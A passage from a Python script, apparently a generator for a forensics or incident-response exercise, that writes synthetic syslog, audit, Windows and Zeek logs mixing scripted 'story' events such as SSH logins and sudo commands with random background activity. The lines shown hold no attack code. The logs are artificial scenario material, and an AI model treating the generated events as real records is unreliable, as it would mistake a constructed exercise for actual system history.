            ("debian-sa1 1 1", "/opt/historian/bin/export.sh", "test -x /usr/sbin/anacron || run-parts /etc/cron.daily")
        )
        lines += cron_session(when, rng.choice(("root", "historian")), job, 3000 + step * 11)
    for clock in ("04:41:10", "05:20:33", "06:02:45", "09:15:20"):
        key = "ssh2: ED25519 SHA256:4b1v0Zr8m2"
        daemon = f"sshd[{rng.randrange(2000, 2900)}]"
        lines.append((at(clock), f"{daemon}: Accepted publickey for hist_ops from {JUMP.address} port 49811 {key}"))
        command = "TTY=pts/0 ; PWD=/home/hist_ops ; USER=root ; COMMAND=/usr/bin/stat"
        command += f" /opt/historian/log/export-{DAY:%Y-%m-%d}.csv"  # the full date tells the year of the log
        lines.append((at(clock) + timedelta(seconds=40), f"sudo: hist_ops : {command}"))
    lines.append((at("05:19:58"), f"sshd[2207]: Failed password for hist_ops from {JUMP.address} port 49809 ssh2"))
    return lines


def syslog_lines(entries: AuthLines) -> str:
    """Return lines of RFC 3164 in time order; the historian's clock runs in UTC."""
    ordered = sorted(entries, key=lambda entry: entry[0])
    return "".join(f"{when:%b} {when.day:>2} {when:%H:%M:%S} historian-01 {line}\n" for when, line in ordered)


def write_historian(folder: Path, rng: random.Random) -> None:
    """Write both logs of the historian."""
    audit = Audit()
    audit_story(audit)
    ordinary_audit(audit, rng)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "audit.log").write_text(audit.text(), encoding="utf-8", newline="\n")
    auth = syslog_lines(auth_story() + ordinary_auth(rng))
    (folder / "auth.log").write_text(auth, encoding="utf-8", newline="\n")


def main(target: Path) -> None:
    """Write all files below a folder."""
    rng = random.Random(20261006)
    write_historian(target / "historian", rng)
    office = windows_lines(OFFICE, office_story(), rng).encode()
    (target / "office-pc-07.jsonl.gz").write_bytes(gzip.compress(office, mtime=0))
    for host, story in ((JUMP, jump_story()), (ENGINEERING, engineering_story())):
        path = target / f"{host.name.lower()}.jsonl"
        path.write_text(windows_lines(host, story, rng), encoding="utf-8", newline="\n")
    write_network(target / "zeek", random.Random(20261007))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUT")
    main(Path(sys.argv[1]))
